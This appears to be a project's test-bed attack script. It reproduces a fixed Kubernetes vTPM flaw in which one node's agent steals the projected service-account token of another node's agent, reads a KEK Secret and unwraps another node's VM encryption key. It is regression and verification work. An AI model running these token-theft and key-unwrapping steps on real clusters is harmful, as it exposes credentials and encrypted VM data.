#!/usr/bin/env bash
# Hole 5 part B (keys off the nodes), the attack on the unfixed code: its
# manifests (063b021 and before: the DaemonSet on keys.provider secret,
# vtpm-agent may get Secrets in vtpm-system). A VM
# runs on node-2; node-1's agent, with the token the kubelet projected into
# ITS container, reads the namespace's KEK Secret and unwraps the key header
# on the shared volume: it holds node-2's VM's DEK.
#
# Usage (test bed up, as root): test/e2e/attacks/keys-off-nodes-before.sh OLD_TREE
#   OLD_TREE: a checkout of the unfixed code, e.g. `git worktree add /tmp/old 063b021`.
# Not part of make test: it deploys the unfixed manifests. After the fix,
# test/e2e/65-keys-broker.t shows the same requests refused.
set -u
OLD=${1:?usage: $0 OLD_TREE (a checkout of the unfixed code)}
cd "$(dirname "$0")/../../.."
export KUBECONFIG=${KUBECONFIG:-/tmp/vtpm-testbed/admin.kubeconfig} VTPM_NODES=2
. hack/testbed-lib.sh; . hack/nodes-lib.sh; . test/e2e/lib-realnode.sh
NS=e2e-hole5b-before T=$(mktemp -d /tmp/hole5b.XXXXXX); chmod 755 $T
cleanup() {
  kubectl -n $NS delete pods --all --wait=true --timeout=60s >/dev/null 2>&1
  kubectl -n vtpm-system delete ds vtpm-agent --ignore-not-found --wait=false >/dev/null 2>&1
  rn_storage_down; kubectl delete ns $NS --wait=false >/dev/null 2>&1
  kubectl delete storageclass $NS-local --ignore-not-found >/dev/null 2>&1
  kubectl -n vtpm-system delete secret vtpm-kek-$NS --ignore-not-found >/dev/null 2>&1
}
trap cleanup EXIT
echo "== the unfixed manifests: $(git -C $OLD log --oneline -1)"
kubectl kustomize $OLD/deploy/overlays/testbed | kubectl apply -f - >/dev/null
rn_wait 180 _rn_agents_ready || { echo "agents not ready"; exit 1; }
kubectl create ns $NS >/dev/null
rn_storage_up $T/store $NS-local || exit 1
rn_images_ready || { echo "no images"; exit 1; }
printf '%s\n' "apiVersion: kubevirt.io/v1" "kind: VirtualMachine" "metadata: {name: win11, namespace: $NS}" \
  "spec: {runStrategy: Halted, template: {spec: {domain: {devices: {tpm: {persistent: true}}}}}}" | kubectl apply -f - >/dev/null
rn_wait 90 sh -c "[ \"\$(kubectl -n $NS get tpmstate win11 -o jsonpath='{.status.phase}')\" = Ready ]"
rn_launcher_start $NS launcher-b win11 node-2 || exit 1
rn_wait 90 sh -c "[ \"\$(kubectl -n $NS get tpmstate win11 -o jsonpath='{.status.nodeState.node} {.status.nodeState.phase}')\" = 'node-2 Running' ]" ||
  { echo "VM not running on node-2"; exit 1; }
echo "== VM win11 runs on node-2: $(kubectl -n $NS get tpmstate win11 -o jsonpath='{.status.nodeState.node} {.status.nodeState.phase}')"
pvc=$(kubectl -n $NS get tpmstate win11 -o jsonpath='{.status.pvcName}')
store=$(kubectl get pv "$(kubectl -n $NS get pvc $pvc -o jsonpath='{.spec.volumeName}')" -o jsonpath='{.spec.local.path}')
echo "== its key header on the shared volume: $(jq -c '{provider, kekId, algorithm}' $store/vtpm-key.json)"
apid=$(rn_container_pid vtpm-system "$(rn_agent_pod node-1)")
cp /proc/$apid/root/run/secrets/kubernetes.io/serviceaccount/token $T/n1.token
printf '%s\n' "apiVersion: v1" "kind: Config" \
  "clusters: [{name: tb, cluster: {server: \"https://127.0.0.1:$TB_APISERVER_PORT\", certificate-authority: \"$TB_PKI/ca.crt\"}}]" \
  "users: [{name: agent, user: {tokenFile: \"$T/n1.token\"}}]" \
  "contexts: [{name: agent, context: {cluster: tb, user: agent}}]" "current-context: agent" > $T/n1.kubeconfig
echo "== node-1's agent token: $(KUBECONFIG=$T/n1.kubeconfig kubectl auth whoami -o json | jq -c '[.status.userInfo.username, .status.userInfo.extra["authentication.kubernetes.io/node-name"][0]]')"
echo "\$ kubectl --token <node-1 agent's> -n vtpm-system get secret vtpm-kek-$NS"
KUBECONFIG=$T/n1.kubeconfig kubectl -n vtpm-system get secret vtpm-kek-$NS -o json > $T/kek.json 2>&1
echo "   -> $(jq -r '"Secret " + .metadata.name + ", keys: " + (.data | keys | join(","))' $T/kek.json 2>&1 | head -1)"
python3 - "$T/kek.json" "$store/vtpm-key.json" <<'PY'
import base64, hashlib, json, sys
from cryptography.hazmat.primitives.keywrap import aes_key_unwrap_with_padding
sec = json.load(open(sys.argv[1])); hdr = json.load(open(sys.argv[2]))
kek = base64.b64decode(sec["data"]["kek-1"])
dek = aes_key_unwrap_with_padding(kek, base64.b64decode(hdr["wrappedKey"]))
print("== node-1 unwrapped node-2's VM key: %d bytes, AES-KWP integrity check passed, sha256 %s..." % (len(dek), hashlib.sha256(dek).hexdigest()[:16]))
PY
